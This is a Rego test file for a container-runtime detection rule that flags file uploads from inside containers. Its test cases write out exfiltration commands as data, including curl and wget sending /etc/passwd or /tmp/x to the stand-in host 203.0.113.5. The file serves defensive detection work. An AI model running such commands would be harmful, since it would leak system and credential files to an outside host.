package tocsin.tests.upload_from_container

import data.tocsin.rules.upload_from_container as rule
import data.tocsin.testing

fires(ev) if {
	testing.selects(rule.tracee_selected_events, ev)
	match := rule.tracee_match with input as ev
	match != false
}

test_match_1 if fires(testing.executed("/usr/bin/curl", ["curl", "-T", "/tmp/x", "http://203.0.113.5/"], testing.container))

test_match_2 if fires(testing.executed("/usr/bin/wget", ["wget", "--post-file=/etc/passwd", "http://203.0.113.5/"], testing.container))

test_evasion_data if fires(testing.executed("/usr/bin/curl", ["curl", "--data-binary", "@/etc/passwd", "http://203.0.113.5/"], testing.container))

test_near_miss_get if not fires(testing.executed("/usr/bin/curl", ["curl", "-s", "http://203.0.113.5/"], testing.container))

test_near_miss_host if not fires(testing.executed("/usr/bin/curl", ["curl", "-T", "/tmp/x", "http://203.0.113.5/"], {}))
